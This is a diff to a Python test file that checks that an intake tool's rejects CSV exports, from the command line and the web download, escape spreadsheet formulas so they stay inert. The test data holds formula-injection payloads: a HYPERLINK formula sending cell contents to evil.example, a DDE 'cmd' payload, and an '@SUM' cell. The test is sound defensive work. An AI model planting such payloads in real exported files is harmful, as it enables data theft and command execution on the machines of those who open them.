@@ -145,9 +145,31 @@ def test_outside_a_transaction_batches_are_written_by_a_second_thread(
     assert _run(write_csv("t.csv", [*HXL_HEADER, *rows]), batch_size=8).unchanged == 49
 
 
-def test_rejects_csv_rows_never_run_as_formulas() -> None:
-    from ulinzi.intake import rejects
+def test_rejects_csv_never_runs_formulas_on_the_command_line_or_the_web(
+    tmp_path: Any, org: Any
+) -> None:
+    """Both rejects CSVs (the command line's file and the web download) write inert cells."""
+    import csv
+    import io
 
-    row = rejects.csv_row(rejects.Reject(4, "=Type", "=HYPERLINK(1)", "is not known"))
-    assert row == (4, "'=Type", "'=HYPERLINK(1)", "is not known")
-    assert rejects.csv_row(rejects.Reject(5, "Killed", "-3", "negative"))[2] == "-3"
+    from ulinzi.intake import rejects, uploads
+
+    given = [
+        rejects.Reject(4, "=Type", '=HYPERLINK("http://evil.example/?d="&A2,"Click")', "unknown"),
+        rejects.Reject(5, "Killed", "-3", "negative"),
+        rejects.Reject(6, "+cmd|' /C calc'!A0", "@SUM(1)", "unknown"),
+    ]
+    expected = [
+        ["row", "column", "value", "reason"],
+        ["4", "'=Type", '\'=HYPERLINK("http://evil.example/?d="&A2,"Click")', "unknown"],
+        ["5", "Killed", "-3", "negative"],
+        ["6", "'+cmd|' /C calc'!A0", "'@SUM(1)", "unknown"],
+    ]
+    log = rejects.CsvLog(tmp_path / "rejects.csv")
+    log.add(given)
+    log.close()
+    assert list(csv.reader((tmp_path / "rejects.csv").open(newline=""))) == expected
+
+    run = ImportRun.objects.create(organisation=org, fmt="csv", file_name="t.csv")
+    rejects.save(run, given)
+    assert list(csv.reader(io.StringIO("".join(uploads.rejects_csv(run))))) == expected
